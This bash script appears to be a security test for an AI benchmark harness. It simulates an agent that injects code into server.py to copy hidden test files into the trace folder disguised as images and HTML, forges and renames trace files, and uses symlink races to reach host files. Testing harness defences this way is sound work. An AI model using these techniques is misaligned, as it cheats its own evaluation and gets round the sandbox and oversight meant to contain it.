#!/bin/bash
# Kind 7 (the user tool), every variant in one agent phase (a browser replay is slow):
# (c) while the harness snapshots the workspace, a folder is swapped for a link to a root-owned
#     host file, over and over (first call); (a) the code the replay runs (server.py, the app
#     server) copies /tests/* into the trace folder raw under image and HTML names, and (b)
#     wrapped: as a real PNG with the test after the image's end, and as an HTML page; it also
#     forges trace files without the tests, links to them, and makes a folder beside the trace
#     folder or renames it (second call; each attempt printed as "ATTACK <what>: WROTE|denied",
#     which the harness keeps in user_tool.jsonl); (d) user_tool/ is a link to a host folder
#     (third call).
set -u
HOSTFILE=$(sed -n 's/^HOSTFILE=//p' "$LANCEBENCH_INSTRUCTION")
HOSTDIR=$(sed -n 's/^HOSTDIR=//p' "$LANCEBENCH_INSTRUCTION")
python3 - <<'PY'
leak = r'''
import os as _os, struct as _st, zlib as _z


def _chunk(kind, data):
    return _st.pack(">I", len(data)) + kind + data + _st.pack(">I", _z.crc32(kind + data) & 0xFFFFFFFF)


def _png():
    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", _st.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + _chunk(b"IDAT", _z.compress(b"\x00\xff\x00\x00")) + _chunk(b"IEND", b""))


def _say(what, fn):
    try:
        fn()
        print("ATTACK %s: WROTE" % what, flush=True)
    except OSError as exc:
        print("ATTACK %s: denied (%s)" % (what, exc.strerror), flush=True)


def _write(path, body):
    with open(path, "wb") as fh:
        fh.write(body)


print("ATTACK uid=%d" % _os.getuid(), flush=True)
_traces = [t for t in (_os.environ.get("LANCEBENCH_TRACE_DIR"), "/logs/user-tool") if t]
_names = []
try:
    _names = sorted(_os.listdir("/tests"))
except OSError as exc:
    print("ATTACK read hidden tests: denied (%s)" % exc.strerror, flush=True)
for _trace in dict.fromkeys(_traces):
    # (a) raw copies and (b) wrapped ones, straight into the trace folder
    for _i, _name in enumerate(_names):
        _path = _os.path.join("/tests", _name)
        if not _os.path.isfile(_path):
            continue
        _data = open(_path, "rb").read()
        for _fname, _body in (("%04d-leak.html" % (9000 + _i), _data), ("%04d-leak.png" % (9100 + _i), _data),
                              ("%04d-wrap.html" % (9200 + _i), b"<!DOCTYPE html><html><pre>" + _data + b"</pre></html>"),
                              ("%04d-wrap.png" % (9300 + _i), _png() + _data)):
            _say("write %s" % _fname, lambda: _write(_os.path.join(_trace, _fname), _body))
    # forged files without the tests, a link to them, and a folder of the attacker's beside the trace
    _say("write 9400-forged.png", lambda: _write(_os.path.join(_trace, "9400-forged.png"), _png()))
    _say("write actions.log", lambda: _write(_os.path.join(_trace, "actions.log"), b"forged\n"))
    _say("write 9401-link.html", lambda: _os.symlink("/tests/test_e2e.py", _os.path.join(_trace, "9401-link.html")))
    _say("write trace sibling", lambda: _os.mkdir(_trace.rstrip("/") + "-forged"))
    _say("write trace rename", lambda: _os.rename(_trace, _trace.rstrip("/") + "-old"))
'''
src = open("server.py").read()
at = src.index('if __name__ == "__main__"')
open("server.py", "w").write(src[:at] + leak + "\n\n" + src[at:])
PY
( while [ ! -e /tmp/stop-swap ]; do
    rm -rf swap; mkdir -p swap/a/b; echo x > swap/a/b/f; chmod 000 swap/a/b/f
    rm -rf swap; ln -s "$HOSTFILE" swap
  done ) &
echo "== run1"; user-tool; echo "exit=$?"
touch /tmp/stop-swap; wait
rm -rf swap user_tool
echo "== run2"; user-tool; echo "exit=$?"
echo "== files"; ls user_tool/output_*
echo "== contents"; cat user_tool/output_*/* 2>/dev/null | tr -c '[:print:]\n' '.'
echo "== run3"
rm -rf user_tool && ln -s "$HOSTDIR" user_tool
user-tool; echo "exit=$?"
rm -f user_tool
echo "== end"
